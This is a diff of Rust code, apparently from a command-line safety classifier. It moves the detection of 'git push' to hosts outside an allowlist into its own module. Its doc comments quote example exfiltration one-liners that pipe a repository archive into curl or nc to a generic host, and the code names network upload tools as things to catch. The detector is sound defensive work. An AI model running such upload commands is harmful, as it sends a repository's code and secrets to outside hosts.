@@ -2,8 +2,7 @@
 //! piped into a network program (`tar cz . | curl -T - https://host`, `git bundle create -
 //! --all | nc host 9000`), written to a file a later command of the line sends (`tar czf
 //! r.tgz . && curl -F f=@r.tgz …`), or copied by `rsync`/`scp` straight from the repository
-//! root, or pushed by git to a URL on such a host (`git push https://host/r.git --all`, also
-//! through a remote the line adds). That is exfiltration: blocked.
+//! root. That is exfiltration: blocked. A push to such a host is [`crate::classify::push`].
 
 use crate::classify::cmd::Cmd;
 use crate::classify::commands::{self as c, is};
@@ -41,7 +40,7 @@ pub(crate) fn repository_upload(
             },
         ))
     };
-    if let Some(v) = pushed_elsewhere(commands, programs, ctx) {
+    if let Some(v) = crate::classify::push::pushed_elsewhere(commands, programs, ctx) {
         return Some(v);
     }
     let archives: Vec<(usize, Out)> = (0..commands.len())
@@ -99,7 +98,7 @@ pub(crate) fn repository_upload(
     None
 }
 
-fn block(how: &str) -> Verdict {
+pub(crate) fn block(how: &str) -> Verdict {
     Verdict::block(
         "block.exfiltration",
         format!("uploads the whole repository to a host not on the allowlist: {how}"),
@@ -244,7 +243,7 @@ fn tar(cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Option<Out> {
 }
 
 /// Positionals with the values of `with_value` options taken out.
-fn positionals<'a>(args: &'a [String], with_value: &[&str]) -> Vec<&'a str> {
+pub(crate) fn positionals<'a>(args: &'a [String], with_value: &[&str]) -> Vec<&'a str> {
     let mut out = Vec::new();
     let mut words = args.iter().map(String::as_str);
     while let Some(word) = words.next() {
@@ -257,7 +256,7 @@ fn positionals<'a>(args: &'a [String], with_value: &[&str]) -> Vec<&'a str> {
     out
 }
 
-fn option_value<'a>(args: &'a [String], names: &[&str]) -> Option<&'a str> {
+pub(crate) fn option_value<'a>(args: &'a [String], names: &[&str]) -> Option<&'a str> {
     let mut words = args.iter().map(String::as_str);
     while let Some(word) = words.next() {
         if names.contains(&word) {
@@ -354,74 +353,4 @@ fn copies_repository(cmd: &Cmd<'_>, ctx: &Ctx<'_>) -> Option<String> {
                 format!("the repository ({s})")
             }
         })
-}
-
-/// `git push URL …`, `git push --repo=URL`, or a push to a remote the line itself adds or
-/// points elsewhere (`git remote add x URL && git push x --mirror`), when the URL's host is
-/// neither a forge nor on the allowlist. A push sends every commit the pushed refs reach.
-fn pushed_elsewhere(
-    commands: &[ParsedCommand],
-    programs: &[Program],
-    ctx: &Ctx<'_>,
-) -> Option<Verdict> {
-    let mut remotes: Vec<(&str, &str)> = Vec::new();
-    for (program, args) in programs.iter().take(commands.len()) {
-        if *program != "git" {
-            continue;
-        }
-        let line = crate::classify::git::split_git(args);
-        match line.sub {
-            "remote" => {
-                let words = positionals(line.rest, &["-t", "-m", "--mirror"]);
-                if let [verb, name, url, ..] = words.as_slice() {
-                    if matches!(*verb, "add" | "set-url") {
-                        remotes.push((name, url));
-                    }
-                }
-            }
-            "push" => {
-                let named = option_value(line.rest, &["--repo"]).or_else(|| {
-                    positionals(
-                        line.rest,
-                        &["-o", "--push-option", "--receive-pack", "--exec", "--repo"],
-                    )
-                    .first()
-                    .copied()
-                });
-                let Some(named) = named else { continue };
-                let url = remotes
-                    .iter()
-                    .rev()
-                    .find(|(name, _)| *name == named)
-                    .map_or(named, |(_, url)| *url);
-                if !is_remote_url(url) {
-                    continue;
-                }
-                let host = host_of(url);
-                if host.is_empty()
-                    || crate::classify::remote::is_forge_host(&host)
-                    || ctx.allowlisted(url)
-                {
-                    continue;
-                }
-                return Some(block(&format!(
-                    "`git push` sends its history to {host} (add the host to the network allowlist if it is yours)"
-                )));
-            }
-            _ => {}
-        }
-    }
-    None
-}
-
-/// A repository URL on another machine: `scheme://host/…` (not `file://`) or scp's
-/// `[user@]host:path`.
-fn is_remote_url(word: &str) -> bool {
-    if let Some((scheme, _)) = word.split_once("://") {
-        return scheme != "file";
-    }
-    match word.split_once(':') {
-        Some((host, _)) => !host.is_empty() && !host.contains('/') && !host.starts_with('.'),
-        None => false,
-    }
 }
